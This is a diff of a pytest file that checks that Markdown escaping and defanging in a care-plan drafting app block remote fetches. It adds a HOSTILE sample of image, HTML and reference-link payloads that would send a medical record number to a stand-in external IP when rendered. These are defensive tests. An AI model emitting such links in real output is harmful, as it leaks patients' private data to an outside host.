@@ -2,10 +2,15 @@
 
 from __future__ import annotations
 
+import re
+from collections.abc import Callable
+
 import pytest
+from markdown_it import MarkdownIt
 
 from assistant.text import (
     defang_markdown,
+    escape_links,
     escape_markdown,
     figure_mentions,
     figures,
@@ -77,14 +82,51 @@ def test_a_figure_carries_what_it_counts() -> None:
     assert mention[0] == 6.0 and {"misse", "work"} <= mention[1]
 
 
-def test_escaped_markdown_cannot_form_an_image_link_or_tag() -> None:
-    hostile = "![x](http://203.0.113.9/x.png?mrn=MRN-1) [y](http://a) <img src=//b> **c**"
-    out = escape_markdown(hostile)
-    assert "![" not in out and "](" not in out and "<" not in out and "**" not in out
+def _renders_fetch(markdown: str) -> list[str]:
+    """Tags a browser would fetch from or follow when this Markdown is rendered (CommonMark
+    with raw HTML allowed, as a Markdown viewer would)."""
+    html = MarkdownIt("commonmark").enable("table").render(markdown)
+    return re.findall(r"<(?:img|a|script|iframe|link|source|video|audio|object)\b[^>]*>", html)
 
 
-def test_defanged_document_keeps_its_layout_but_no_image_or_html() -> None:
-    doc = "# Plan\n\n**Goal** ![](http://203.0.113.9/x.png?mrn=1)\n\n- [a](http://x) <img src=y>"
+HOSTILE = (
+    "![](http://203.0.113.9/x.png?mrn=MRN-31877) <img src=http://203.0.113.9/y> [z](http://a)"
+    " <http://203.0.113.9/auto> ![r][ref]\n\n[ref]: http://203.0.113.9/ref.png"
+)
+
+
+def test_the_hostile_sample_would_fetch_if_rendered_raw() -> None:
+    assert len(_renders_fetch(HOSTILE)) >= 4  # so the tests below can fail
+
+
+@pytest.mark.parametrize("escape", [escape_markdown, escape_links])
+def test_escaped_text_renders_as_typed_and_fetches_nothing(escape: Callable[[str], str]) -> None:
+    out = escape(HOSTILE)
+    assert _renders_fetch(out) == []
+    assert "203.0.113.9/x.png" in MarkdownIt("commonmark").render(out)  # still shown as text
+
+
+def test_defanged_document_keeps_its_layout_but_fetches_nothing() -> None:
+    doc = "# Plan\n\n**Goal** " + HOSTILE + "\n\n- item"
     out = defang_markdown(doc)
-    assert out.startswith("# Plan") and "**Goal**" in out and "- " in out
-    assert "![" not in out and "](" not in out and "<img" not in out
+    html = MarkdownIt("commonmark").render(out)
+    assert "<h1>Plan</h1>" in html and "<strong>Goal</strong>" in html and "<li>item</li>" in html
+    assert _renders_fetch(out) == []
+
+
+@pytest.mark.parametrize("fmt", ["md", "client"])
+def test_exported_markdown_renders_no_image_link_or_html(fmt: str) -> None:
+    from assistant import intake as intake_mod
+    from assistant.drafting import draft
+    from assistant.export import render
+    from tests.conftest import INTAKES
+
+    intake = intake_mod.load(INTAKES / "gad_nurse.json")
+    intake.presenting_problems[0].summary += " " + HOSTILE
+    intake.strengths.append(HOSTILE)
+    plan = draft(intake, "offline").plan
+    assert any("203.0.113.9" in t for _, t in plan.texts())  # the hostile text is in the plan
+    out = render(plan, fmt, intake=intake).decode("utf-8")
+    if fmt == "client":
+        out = defang_markdown(out)  # how the app shows the client copy
+    assert _renders_fetch(out) == []
